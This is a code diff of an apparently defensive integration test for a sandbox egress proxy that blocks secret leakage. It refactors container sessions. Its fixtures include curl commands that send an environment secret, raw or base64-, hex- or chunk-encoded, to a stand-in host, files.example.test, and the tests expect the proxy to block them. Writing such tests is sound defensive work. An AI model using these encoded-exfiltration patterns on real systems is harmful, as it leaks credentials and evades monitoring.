@@ -4,6 +4,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { engineMissing, run } from "../world/docker-cli.ts";
+import { startSession } from "../world/session.ts";
 import { createWorld } from "../world/world.ts";
 
 const missing = engineMissing();
@@ -75,19 +76,11 @@ egress_proxy:
   routes: [{ host: api.example.test, auth: { scheme: Bearer, token_ref: KNOWN } }]`,
     );
     await world.agent("a", "bottle: b");
-    const started = await world.cli(["start", "a", "--yes", "--detach"]);
-    const identity = started.stdout.trim();
     const form = (encode: string): string =>
       `python3 -c "import os,base64;v=os.environ['GIVEN'];print(${encode},end='')"`;
     const send = "curl -sS -o /dev/null -w '%{http_code} '";
-
-    const ended = await world.cli([
-      "exec",
-      identity,
-      "--",
-      "bash",
-      "-c",
-      `
+    await using session = await startSession(world, "a");
+    const printed = await session.run(`
 raw="$GIVEN"; b64=$(${form("base64.b64encode(('ab'+v+'c').encode()).decode()")}); hex=$(${form("v.encode().hex()")})
 ${send} https://files.example.test/p/$raw
 ${send} "https://files.example.test/?q=$raw"
@@ -96,12 +89,10 @@ ${send} -d "some text $raw and more" https://files.example.test/
 ${send} -d "{\\"a\\": \\"$b64\\"}" https://files.example.test/
 ${send} -H 'Transfer-Encoding: chunked' -d "$hex" https://files.example.test/
 ${send} -d "const token = getToken(); // AKIA is a prefix" https://files.example.test/fine
-${send} https://files.example.test/plain`,
-    ]);
-    const logged = await world.cli(["logs", identity, "egress-proxy"]);
-    await world.cli(["stop", identity]);
+${send} https://files.example.test/plain`);
+    const logged = await world.cli(["logs", session.identity, "egress-proxy"]);
 
-    expect(ended.stdout).toBe("403 403 403 403 403 403 200 200 ");
+    expect(printed).toBe("403 403 403 403 403 403 200 200 ");
     const requests = await world.sink.requests();
     const everything = JSON.stringify(
       requests.map((request) => [request.url, request.headers, request.body.toString("utf8")]),
@@ -124,19 +115,13 @@ ${send} https://files.example.test/plain`,
       `env: { GIVEN: "\${HOST_VALUE}" }\negress: { pipelock: false, dlp_action: warn, allowlist: [api.example.test] }\negress_proxy: { routes: [] }`,
     );
     await world.agent("a", "bottle: b");
-    const identity = (await world.cli(["start", "a", "--yes", "--detach"])).stdout.trim();
-    const ended = await world.cli([
-      "exec",
-      identity,
-      "--",
-      "bash",
-      "-c",
+    await using session = await startSession(world, "a");
+    const printed = await session.run(
       `curl -sS -o /dev/null -w '%{http_code}' -d "$GIVEN" https://api.example.test/`,
-    ]);
-    const logged = await world.cli(["logs", identity, "egress-proxy"]);
-    await world.cli(["stop", identity]);
+    );
+    const logged = await world.cli(["logs", session.identity, "egress-proxy"]);
 
-    expect(ended.stdout).toBe("200");
+    expect(printed).toBe("200");
     expect(
       (await world.sink.requests()).some((request) => request.body.toString() === "host-canary-1234567890"),
     ).toBe(true);
